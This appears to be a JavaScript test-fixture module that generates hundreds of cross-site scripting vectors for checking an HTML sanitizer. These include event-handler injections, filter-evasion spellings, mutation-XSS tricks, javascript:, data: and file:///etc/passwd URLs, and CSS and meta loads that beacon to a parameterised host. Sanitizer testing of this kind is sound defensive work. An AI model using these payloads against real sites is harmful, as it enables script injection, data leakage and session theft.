// Pages that try to run a script, to load something or to lead elsewhere, by their names. Written for this project.

/** What a script that runs would do: leave a trace in every window that it reaches, and ask for something. */
const script = (host) => `try{top.hacked=1}catch(e){}self.hacked=1;new Image().src='//${host}/js'`

/** Attributes that run scripts, by the element that they are tried on. */
const handlers = {
  img: ['onerror', 'onload', 'onloadstart', 'onpointerenter'],
  body: ['onload', 'onpageshow', 'onfocus', 'onhashchange', 'onscroll', 'onmessage', 'onresize'],
  div: [
    'onclick',
    'onmouseover',
    'onmouseenter',
    'onanimationstart',
    'ontransitionend',
    'onwheel',
    'oncopy',
  ],
  input: ['onfocus', 'onblur', 'oninput', 'onchange', 'oninvalid', 'onselect'],
  details: ['ontoggle'],
  video: ['oncanplay', 'onerror', 'onloadedmetadata'],
  audio: ['onerror', 'onloadstart'],
  marquee: ['onstart', 'onfinish', 'onbounce'],
  form: ['onsubmit', 'onreset', 'onformdata'],
  svg: ['onload', 'onbegin', 'onfocusin'],
  object: ['onerror'],
  iframe: ['onload'],
  link: ['onload', 'onerror'],
  style: ['onload'],
  select: ['onfocus'],
  button: ['onfocus', 'onbeforetoggle'],
  a: ['onfocus', 'onauxclick', 'ondragstart'],
  textarea: ['onfocus'],
  math: ['onclick'],
  dialog: ['oncancel', 'onclose'],
}

const fromHandlers = (js) =>
  Object.entries(handlers).flatMap(([element, names]) =>
    names.map((name) => [
      `${name} on ${element}`,
      `<${element} src=x href=x data=x tabindex=0 autofocus open ${name}="${js}">text</${element}>`,
    ]),
  )

/** Ways to write the name of a handler or an element that a filter may overlook. */
const spellings = (js) => [
  ['a slash before the handler', `<img/src=x/onerror="${js}">`],
  ['a handler in capitals', `<IMG SRC=x ONERROR="${js}">`],
  ['a handler without quotes', `<img src=x onerror=${js.replaceAll(' ', '/**/')}>`],
  ['a handler in backquotes', `<img src=x onerror=\`${js}\`>`],
  [
    'a handler of references',
    `<img src=x onerror="${[...js].map((c) => `&#${c.codePointAt(0)};`).join('')}">`,
  ],
  ['a handler behind a line break', `<img src=x\nonerror\n=\n"${js}">`],
  ['a handler behind a form feed', `<img\u000csrc=x\u000conerror="${js}">`],
  ['a NUL in a handler', `<img src=x on\u0000error="${js}">`],
  ['a NUL in an element', `<scr\u0000ipt>${js}</scr\u0000ipt>`],
  ['an element in an element', `<scr<script>ipt>${js}</scr</script>ipt>`],
  ['an open element at the end', `<script>${js}`],
  ['a script with a slash', `<script/x>${js}</script/x>`],
  ['a script with a space at its end', `<script >${js}</script >`],
  [
    'an attribute that holds markup',
    `<p title="<img src=x onerror=${js.replaceAll('"', "'")}>">text`,
  ],
  ['an attribute that ends itself', `<p title='a"><script>${js}</script>'>text`],
  ['a class that ends itself', `<p class='a" onclick="${js}'>text`],
  ['an id that ends itself', `<p id='"><script>${js}</script>'>text`],
  ['a comment that ends early', `<!--><script>${js}</script>-->`],
  ['a comment that ends with a bang', `<!--a--!><script>${js}</script>-->`],
  ['a comment of two dashes', `<!-- -- ><script>${js}</script>-->`],
  ['a CDATA section', `<![CDATA[<script>${js}</script>]]>`],
  ['a processing instruction', `<?xml version="1.0"?><script>${js}</script>`],
  ['a declaration', `<!x y="><script>${js}</script>">`],
  ['text like our comments', `ts 5--><script>${js}</script>`],
  ['references that are markup', `&lt;script&gt;${js}&lt;/script&gt;`],
  ['references twice', `&amp;lt;script&amp;gt;${js}`],
  ['a lone surrogate', `<p \ud800 onclick="${js}">text`],
  ['a very long attribute', `<p title="${'a'.repeat(70_000)}" onclick="${js}">text`],
  [
    'many attributes',
    `<p ${Array.from({ length: 300 }, (_, at) => `a${at}=1`).join(' ')} onclick="${js}">text`,
  ],
]

/** Text that another reader of the page sees as markup. */
const mutations = (js) => [
  ['a title in noscript', `<noscript><p title="</noscript><img src=x onerror='${js}'>">`],
  ['a style in noscript', `<noscript><style></noscript><img src=x onerror="${js}"></style>`],
  [
    'a title in a textarea',
    `<textarea><p title="</textarea><img src=x onerror='${js}'>"></textarea>`,
  ],
  ['markup in a title', `<title><p title="</title><img src=x onerror='${js}'>"></title>`],
  ['markup in a style', `<style><p title="</style><img src=x onerror='${js}'>"></style>`],
  ['markup in xmp', `<xmp><p title="</xmp><img src=x onerror='${js}'>"></xmp>`],
  ['markup in an iframe', `<iframe><p title="</iframe><img src=x onerror='${js}'>"></iframe>`],
  ['markup in noembed', `<noembed><p title="</noembed><img src=x onerror='${js}'>"></noembed>`],
  ['markup in plaintext', `<plaintext><img src=x onerror="${js}">`],
  ['markup in a template', `<template><img src=x onerror="${js}"></template>`],
  ['a shadow root', `<div><template shadowrootmode=open><script>${js}</script></template></div>`],
  ['a style in svg', `<svg><style><img src=x onerror="${js}"></style></svg>`],
  ['a style in math', `<math><style><img src=x onerror="${js}"></style></math>`],
  ['a paragraph in svg', `<svg></p><style><a title="</style><img src=x onerror='${js}'>">`],
  ['a paragraph in math', `<math></p><style><a title="</style><img src=x onerror='${js}'>">`],
  ['an integration point', `<svg><foreignObject><script>${js}</script></foreignObject></svg>`],
  ['a title in svg', `<svg><title><script>${js}</script></title></svg>`],
  ['a desc in svg', `<svg><desc><img src=x onerror="${js}"></desc></svg>`],
  [
    'mglyph',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js.replaceAll('"', "'")}&gt;">`,
  ],
  ['malignmark', `<math><mi><malignmark><style><img src=x onerror="${js}"></style>`],
  [
    'annotation-xml',
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${js}"></annotation-xml></math>`,
  ],
  [
    'a form in a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${js}">`,
  ],
  ['a table in a table', `<table><td><table><img src=x onerror="${js}">`],
  ['a select', `<select><template><img src=x onerror="${js}"></template></select>`],
  ['a select with a script', `<select><script>${js}</script></select>`],
  ['nested links', `<a href="#"><table><a href="javascript:${js}">text</a></table></a>`],
  ['deep nesting', `${'<div>'.repeat(600)}<script>${js}</script>`],
  ['deep formatting', `${'<b><i>'.repeat(300)}<img src=x onerror="${js}">`],
  ['a frameset', `<frameset onload="${js}"><frame src="javascript:${js}"></frameset>`],
]

const urls = (js, host) => [
  ['javascript:', `javascript:${js}`],
  ['javascript in capitals', `JaVaScRiPt:${js}`],
  ['javascript with a tab', `java\tscript:${js}`],
  ['javascript with a line break', `java\nscript:${js}`],
  ['javascript behind a control character', `\u0001javascript:${js}`],
  ['javascript of references', `&#106;avascript:${js}`],
  ['javascript without the end of a reference', `&#0000106avascript:${js}`],
  ['javascript with a colon of a reference', `javascript&colon;${js}`],
  ['data of HTML', `data:text/html,<script>${js}</script>`],
  [
    'data in base64',
    `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}`,
  ],
  ['data of SVG', `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`],
  ['vbscript:', `vbscript:${js}`],
  ['blob:', 'blob:null/1'],
  ['file:', 'file:///etc/passwd'],
  ['another host', `http://${host}/url`],
  ['another host without a scheme', `//${host}/url`],
]

/** Elements and attributes that lead to a URL. */
const places = {
  'a link': (url) => `<a href="${url}">text</a>`,
  'an image': (url) => `<img src="${url}">`,
  'a frame': (url) => `<iframe src="${url}"></iframe>`,
  'an object': (url) => `<object data="${url}"></object>`,
}

const fromUrls = (js, host) =>
  urls(js, host).flatMap(([name, url]) =>
    Object.entries(places).map(([place, write]) => [`${name} in ${place}`, write(url)]),
  )

/** What loads something, or leads elsewhere, without a script. */
const loading = (host) => {
  const url = (name) => `http://${host}/${name}`
  return [
    ['base', `<base href="${url('base/')}"><img src="a.png"><a href="b">text</a>`],
    ['a base with a target', `<base target="_top"><a href="${url('top')}">text</a>`],
    ['a refresh', `<meta http-equiv="refresh" content="0;url=${url('refresh')}">`],
    [
      'a refresh in the body',
      `<body><p>text<meta http-equiv=refresh content="0; ${url('refresh')}">`,
    ],
    [
      'a policy',
      `<meta http-equiv="content-security-policy" content="default-src *; report-uri ${url('report')}">`,
    ],
    ['a cookie', '<meta http-equiv="set-cookie" content="a=b">'],
    ['a style sheet', `<link rel=stylesheet href="${url('sheet')}">`],
    ['a preload', `<link rel=preload as=image href="${url('preload')}">`],
    [
      'a prefetch',
      `<link rel=prefetch href="${url('prefetch')}"><link rel=prerender href="${url('prerender')}">`,
    ],
    [
      'a preconnect',
      `<link rel=preconnect href="http://${host}"><link rel=dns-prefetch href="//canary.example">`,
    ],
    ['a module', `<link rel=modulepreload href="${url('module')}">`],
    [
      'a manifest',
      `<link rel=manifest href="${url('manifest')}"><link rel=icon href="${url('icon')}">`,
    ],
    [
      'speculation rules',
      `<script type=speculationrules>{"prefetch":[{"urls":["${url('rules')}"]}]}</script>`,
    ],
    [
      'an import map',
      `<script type=importmap>{"imports":{"a":"${url('map')}"}}</script><script type=module>import 'a'</script>`,
    ],
    ['a set of images', `<img srcset="${url('set')} 1x, ${url('set2')} 2x" sizes=100vw>`],
    ['a picture', `<picture><source srcset="${url('source')}"><img src="${url('img')}"></picture>`],
    [
      'a background of old',
      `<body background="${url('body')}"><table background="${url('table')}"><td background="${url('td')}">x`,
    ],
    [
      'a video with a poster',
      `<video poster="${url('poster')}" src="${url('video')}" autoplay></video>`,
    ],
    [
      'an audio with a track',
      `<audio src="${url('audio')}" autoplay><track src="${url('track')}" default></audio>`,
    ],
    ['an embed', `<embed src="${url('embed')}"><applet code="${url('applet')}"></applet>`],
    [
      'an input of an image',
      `<form action="${url('form')}"><input type=image src="${url('input')}"><input type=submit></form>`,
    ],
    ['a button that submits elsewhere', `<button formaction="${url('formaction')}">text</button>`],
    ['a ping', `<a href="#" ping="${url('ping')}">text</a>`],
    ['a download', `<a href="${url('download')}" download>text</a><area href="${url('area')}">`],
    ['an attribution', `<img attributionsrc="${url('attribution')}">`],
    [
      'a portal',
      `<portal src="${url('portal')}"></portal><fencedframe src="${url('fenced')}"></fencedframe>`,
    ],
    [
      'a frame of a document',
      `<iframe srcdoc="<script>top.hacked=1</script><img src=${url('srcdoc')}>"></iframe>`,
    ],
    [
      'a frame in a frame',
      `<iframe srcdoc="<iframe srcdoc='<img src=${url('inner')}>'></iframe>"></iframe>`,
    ],
    [
      'an image in svg',
      `<svg><image href="${url('svg')}"/><use href="${url('use')}#a"/><feImage href="${url('fe')}"/></svg>`,
    ],
    [
      'an animation in svg',
      `<svg><a><animate attributeName=href values="javascript:top.hacked=1"/><text>text</text></a></svg>`,
    ],
    [
      'a set in svg',
      `<svg><script href="${url('script')}"/><set attributeName=onmouseover to="top.hacked=1"/></svg>`,
    ],
    [
      'a link in math',
      `<math href="${url('math')}" xlink:href="javascript:top.hacked=1"><mtext>text</mtext></math>`,
    ],
    [
      'an import of a style',
      `<style>@import "${url('import')}"; @import url(${url('import2')});</style><p>text`,
    ],
    ['a background', `<style>p{background:url(${url('background')})}</style><p>text`],
    ['a background of escapes', `<style>p{background:\\75 rl(${url('escaped')})}</style><p>text`],
    ['a background in comments', `<style>p{background:u/**/rl(${url('comment')})}</style><p>text`],
    ['a background in quotes', `<style>p{background:URL( "${url('quotes')}" )}</style><p>text`],
    [
      'a set of backgrounds',
      `<style>p{background:image-set("${url('imageset')}" 1x)}</style><p>text`,
    ],
    ['a cursor', `<style>p{cursor:url(${url('cursor')}),auto}</style><p>text`],
    ['a list', `<style>li{list-style:url(${url('list')})}</style><li>text`],
    ['a content', `<style>p::before{content:url(${url('content')})}</style><p>text`],
    [
      'a font',
      `<style>@font-face{font-family:f;src:url(${url('font')})}p{font-family:f}</style><p>text`,
    ],
    [
      'a filter',
      `<style>p{filter:url(${url('filter')}#a);mask:url(${url('mask')})}</style><p>text`,
    ],
    [
      'a variable',
      `<style>:root{--u:url(${url('variable')})}p{background:var(--u)}</style><p>text`,
    ],
    [
      'a style that ends itself',
      `<style>p{content:"</style><script>top.hacked=1</script>"}</style>`,
    ],
    [
      'a sheet in a sheet',
      `<style>@media all{@import "${url('media')}";p{background:url(${url('media2')})}}</style><p>text`,
    ],
    ['an inline background', `<p style="background:url('${url('inline')}')">text`],
    [
      'an inline background of references',
      `<p style="background:url&lpar;${url('reference')}&rpar;">text`,
    ],
    [
      'an inline behaviour',
      `<p style="behavior:url(${url('behaviour')});-moz-binding:url(${url('binding')})">text`,
    ],
    ['an inline expression', '<p style="width:expression(top.hacked=1)">text'],
    [
      'selectors that tell of attributes',
      `<style>input[value^=a]{background:url(${url('value')})}</style><input value=abc>`,
    ],
    [
      'a policy of names',
      '<img name=body><form name=cookie><input name=parentNode></form><a id=top name=parent>text</a>',
    ],
    [
      'names of our own',
      '<p data-ts="0" data-ts-block>text</p><ts-element data-ts="1">text</ts-element>',
    ],
  ]
}

/** @param host Where requests would go that must not be sent. */
export const xssVectors = (host) => {
  const js = script(host)
  return Object.fromEntries([
    ['a script', `<script>${js}</script>`],
    ['a script of another host', `<script src="//${host}/script.js"></script>`],
    ['a module of another host', `<script type=module src="//${host}/module.js"></script>`],
    ...fromHandlers(js),
    ...spellings(js),
    ...mutations(js),
    ...fromUrls(js, host),
    ...loading(host),
  ])
}
